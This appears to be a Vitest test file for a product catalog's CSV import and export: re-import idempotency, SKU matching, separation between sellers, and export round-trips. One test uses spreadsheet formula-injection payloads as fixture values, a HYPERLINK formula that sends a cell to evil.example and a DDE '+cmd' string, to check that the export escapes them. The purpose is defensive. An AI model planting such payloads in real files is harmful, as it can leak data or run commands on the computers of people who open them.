import { beforeEach, describe, expect, test } from "vitest";
import { saveProduct } from "#modules/catalog/public.server.ts";
import type { UserActor } from "#policy/actor.ts";
import {
  fixture,
  importWhole,
  problemsByLine,
  shelfOf,
  upload,
  view,
} from "#tests/imports/import-file.ts";
import { aSeller } from "#tests/support/builders.ts";
import { useTestDatabase } from "#tests/support/database.ts";
import { exportProducts } from "../public.server.ts";

const database = useTestDatabase();
let seller: UserActor;

beforeEach(async () => {
  seller = await aSeller(database.db);
});

const shelf = (of: UserActor = seller) => shelfOf(database.db, of);
const product = async (name: string) => (await shelf()).find((one) => one.name === name);

async function exported(baseUrl = "https://charma.example"): Promise<Uint8Array> {
  const pieces: string[] = [];
  for await (const piece of exportProducts(database.db, seller, { baseUrl })) pieces.push(piece);
  return Buffer.from(pieces.join(""));
}

describe("a file that is imported again", () => {
  test.each(["shopify.csv", "etsy.csv", "own.csv"])(
    "changes nothing and duplicates nothing: %s",
    async (file) => {
      await importWhole(database.db, seller, file);
      const before = await shelf();
      const again = await importWhole(database.db, seller, file, { setsStock: true }).catch(
        (error: unknown) => error,
      );
      expect(again).toMatchObject({ message: expect.stringContaining("nothing to import") });
      expect(await shelf()).toEqual(before);
    },
  );

  test("updates what changed in it, and leaves what the seller edited here", async () => {
    await importWhole(database.db, seller, "shopify.csv");
    const belt = await product("Rider's belt");
    if (belt === undefined) throw new Error("The belt is there.");
    await saveProduct(database.db, seller, {
      productId: belt.id,
      version: belt.version,
      product: {
        ...belt,
        materials: "Bridle butt",
        categorySlug: "travel",
        careInstructions: "Wax it.",
      },
    });
    const changed = Buffer.from(
      Buffer.from(await fixture("shopify.csv"))
        .toString("utf8")
        .replace("Rider's belt", "Riding belt")
        .replace(",BELT-34-TAN,420,shopify,3,", ",BELT-34-TAN,420,shopify,8,"),
    );
    expect(await importWhole(database.db, seller, changed, { setsStock: false })).toMatchObject({
      outcomes: { added: 0, updated: 1, unchanged: 1 },
    });
    expect(await shelf()).toHaveLength(2);
    expect(await product("Riding belt")).toMatchObject({
      id: belt.id,
      materials: "Bridle butt",
      categorySlug: "travel",
      careInstructions: "Wax it.",
      variants: [{}, { sku: "BELT-34-TAN", stock: 3 }, {}],
    });
    await importWhole(database.db, seller, changed, { setsStock: true });
    expect(await product("Riding belt")).toMatchObject({
      variants: [{}, { sku: "BELT-34-TAN", stock: 8 }, {}],
    });
  });

  test("recognises a product by its SKU too, and refuses one that matches two products", async () => {
    const file = (rows: string) =>
      Buffer.from(`Product,Name,Description,Category,Materials,Price,Size,SKU,Stock\n${rows}`);
    await importWhole(
      database.db,
      seller,
      file(
        "a,First,A belt.,belts,Leather,999,,SKU-A,1\nb,Second,A belt.,belts,Leather,999,,SKU-B,1\n",
      ),
    );
    await importWhole(
      database.db,
      seller,
      file("renamed,First again,A belt.,belts,Leather,999,,SKU-A,1\n"),
    );
    expect((await shelf()).map(({ name }) => name).toSorted()).toEqual(["First again", "Second"]);
    const importId = await upload(
      database.db,
      seller,
      file("c,Both,A belt.,belts,Leather,999,32,SKU-A,1\nc,,,,,,34,SKU-B,1\n"),
    );
    expect(problemsByLine((await view(database.db, seller, importId)).lines)).toEqual({
      2: "Its SKUs belong to two of your products, “First again” and “Second”.",
    });
  });

  test("never matches another seller's products", async () => {
    await importWhole(database.db, seller, "own.csv");
    const other = await aSeller(database.db);
    expect(await importWhole(database.db, other, "own.csv")).toMatchObject({
      outcomes: { added: 2 },
    });
    expect(await shelf(other)).toHaveLength(2);
  });
});

describe("an export", () => {
  test("imported again is unchanged, whatever its cells begin with", async () => {
    await importWhole(database.db, seller, "own.csv");
    await importWhole(database.db, seller, "shopify.csv");
    await importWhole(database.db, seller, "formulas.csv");
    const before = await shelf();
    expect(before).toHaveLength(5);
    const importId = await upload(database.db, seller, await exported());
    expect((await view(database.db, seller, importId)).outlooks).toEqual({
      new: 0,
      changed: 0,
      unchanged: 5,
      faulty: 0,
    });
  });

  test("of a draft without a category is imported again as such, and published only with one", async () => {
    const file = (status: string) =>
      Buffer.from(
        `Product,Name,Description,Materials,Price,Status\na,First,A belt.,Leather,999,${status}\n`,
      );
    const open = { categorySlug: "", hsnCode: "" };
    expect(await importWhole(database.db, seller, file("draft"), open)).toMatchObject({
      outcomes: { added: 1 },
    });
    expect(await shelf()).toMatchObject([{ name: "First", status: "draft", ...open }]);
    const again = await upload(database.db, seller, await exported());
    expect((await view(database.db, seller, again)).outlooks).toMatchObject({ unchanged: 1 });
    await expect(
      importWhole(database.db, seller, file("published"), { ...open, publishes: true }),
    ).rejects.toThrow("nothing to import");
  });

  test("has no formula for a spreadsheet, and its texts are read back", async () => {
    await importWhole(database.db, seller, "formulas.csv");
    const [odd] = await shelf();
    expect(odd).toMatchObject({
      name: '=HYPERLINK("https://evil.example/?x="&A1,"Belt")',
      description: "=1+1",
      materials: "@SUM(A1:A9)",
      careInstructions: "-2+3",
      tags: ["+cmd|' /C calc'!A0"],
      variants: [{ size: "''=quoted", sku: "=SKU" }],
    });
    const text = Buffer.from(await exported()).toString("utf8");
    expect(text).toContain('"\'=HYPERLINK(""https://evil.example/?x=""&A1,""Belt"")"');
    const cells = text
      .slice(1)
      .split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
      .map((cell) => cell.replace(/^"/, ""));
    expect(cells.length).toBeGreaterThan(50);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  test("has the seller's products only, drafts and archived ones included", async () => {
    await importWhole(database.db, seller, "own.csv");
    await importWhole(database.db, await aSeller(database.db), "shopify.csv");
    await database.db.$client.query(
      `update products
       set status = 'archived', published_at = now()
       where seller_id = $1 and name = 'Valet tray'`,
      [seller.userId],
    );
    const text = Buffer.from(await exported()).toString("utf8");
    expect(text).toContain("Valet tray");
    expect(text).toContain("archived");
    expect(text).not.toContain("Rider");
  });
});
